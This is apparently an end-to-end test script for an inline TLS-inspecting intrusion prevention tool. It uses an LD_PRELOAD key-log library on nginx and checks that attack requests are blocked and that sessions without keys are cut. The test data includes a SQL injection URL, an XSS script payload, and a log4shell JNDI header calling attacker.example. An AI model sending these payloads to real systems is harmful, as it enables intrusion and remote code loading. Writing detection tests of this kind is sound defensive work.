#!/usr/bin/env bash
# `tlsips run` inline in key log mode: nginx (TLS 1.3) started with
# LD_PRELOAD=libtlsips-keylog.so hands its secrets to tlsips' key socket;
# packets of sessions whose secrets have not arrived yet are held, then
# judged. Checks: benign TLS 1.3 requests pass byte for byte, decrypted with
# the key log; attacks get no answer, never reach nginx, alert "blocked";
# a second nginx on another port of the same entry without the preload
# sends no secrets: its sessions are held, then cut at the key wait time
# (key-timeout: block) with a tls event naming key_timeout — never passed
# uninspected. Skipped (exit 77) without namespaces or NFQUEUE.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/../lib_netns.sh"
netns_require
NETNS_IPV6=0
e2e_init "$@"
e2e_need curl nginx jq
. "$E2E_CASE_DIR/../lib_run.sh"
LIB=$(keylog_lib)
netns_setup

PORT=8443
PORT2=9443
U="https://e2e.test:$PORT"
R=(--resolve "e2e.test:$PORT:$SRV_IP4" --resolve "e2e.test:$PORT2:$SRV_IP4" --tlsv1.3)
if [ ${#WORK} -le 90 ]; then SOCK=$WORK/ks/k.sock; else SOCK=$(mktemp -d /tmp/tlsips-rk.XXXXXX)/k.sock; fi

# nginx with the preload (master_process off: the one process, root, sends secrets).
make_rsa_cert server
TLSIPS_KEYLOG_SOCKET=$SOCK LD_PRELOAD=$LIB run_nginx "$PORT" "TLSv1.2 TLSv1.3"
# The same site without the preload on PORT2: no secrets ever come.
sed -e "s/:$PORT ssl/:$PORT2 ssl/" -e "s#$WORK/ngx/nginx.pid#$WORK/ngx/nginx2.pid#" \
    -e "s#access_log $WORK/ngx/access.log#access_log $WORK/ngx/access2.log#" ngx/nginx.conf >ngx/nginx2.conf
netns_bg_srv ngx2 nginx -p "$WORK/ngx" -c "$WORK/ngx/nginx2.conf" -e "$WORK/ngx/error2.log"
netns_wait_listen "$PORT2" ngx2

cat >cfg.yaml <<YAML
mode: prevent
capture: inline
app-types:
  - name: Web Server Common
    protocol: http
    ports: [$PORT, $PORT2]
    monitor-responses: true
    rules: [builtin]
tls-inspection:
  - name: site
    interfaces: all
    ports: [$PORT, $PORT2]
    ips: all
    keylog:
      socket: $SOCK
      peers: { uids: [0] }
    undecryptable: block
    key-timeout: block
limits:
  key-wait-time: 2s
outputs:
  - type: file
    path: $WORK/ev.json
    events: all
inline:
  queues: [$RUN_Q]
stats-interval: 0
YAML
netns_queue_port "$PORT" "$RUN_Q"
netns_queue_port "$PORT2" "$RUN_Q"
run_start ips cfg.yaml

# The session goes on through the hold: the handshake passes on the
# handshake secrets (an OpenSSL server logs the client's traffic secret only
# after reading its Finished), the request waits for the traffic secret.
passes idx ngx/html/index.html "TLS 1.3 GET, secrets from the key socket" "${R[@]}" "$U/index.html"
refused sqli "TLS 1.3 SQL injection" "${R[@]}" "$U/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--&tcase=sqli"
refused xss "TLS 1.3 XSS" "${R[@]}" "$U/search?q=%3Cscript%3Ealert(1)%3C/script%3E&tcase=xss"
refused log4j "TLS 1.3 log4shell header" "${R[@]}" -H 'X-Api-Version: ${jndi:ldap://attacker.example/a}' "$U/app?tcase=log4j"
refused nokeys "TLS 1.3 session whose secrets never come" "${R[@]}" "https://e2e.test:$PORT2/index.html?tcase=nokeys"
if [ "$CURL_MS" -ge 1500 ]; then ok "it was held for the key wait time ($CURL_MS ms) before being cut"; else fail "cut after $CURL_MS ms, before the key wait time"; fi
run_stop ips

jq -e . ev.json >/dev/null || fail "events are not valid JSON lines"
for n in sqli xss log4j; do
    check_eq blocked "$(jq -r --arg n "tcase=$n" 'select(.event_type=="alert" and (.http.url // "" | contains($n))) | .alert.action' ev.json | sort -u | tr '\n' ' ' | sed 's/ $//')" "alert for $n, action blocked"
    check_no_grep ngx/access.log "tcase=$n" "nginx never saw the $n request"
done
check_eq 0 "$(jq -r 'select(.event_type=="tls" and .dest_port == '"$PORT"' and (.tls.inspection.decrypted != true or .tls.inspection.key_source != "keylog"))' ev.json | grep -c '"flow_id"' || true)" "every session on $PORT decrypted with the key log"
check_grep ips.err '^keysock: [1-9][0-9]* datagrams, [1-9][0-9]* accepted' "the preload library's secrets reached the key socket"
check_eq "key_timeout blocked" "$(jq -r 'select(.event_type=="tls" and .dest_port == '"$PORT2"') | "\(.tls.inspection.reason) \(.tls.inspection.verdict)"' ev.json | sort -u | tr '\n' ' ' | sed 's/ $//')" "the session without secrets: key_timeout, blocked"
check_no_grep ngx/access2.log "nokeys" "nginx without the preload never got the request"
check_grep ips.err ' held ' "held packets are counted"
held=$(sed -n 's/.* \([0-9]*\) held (.*/\1/p' ips.err | tail -n 1)
[ "${held:-0}" -gt 0 ] && ok "packets were held waiting for secrets: $held" || fail "no packet was held"
e2e_finish
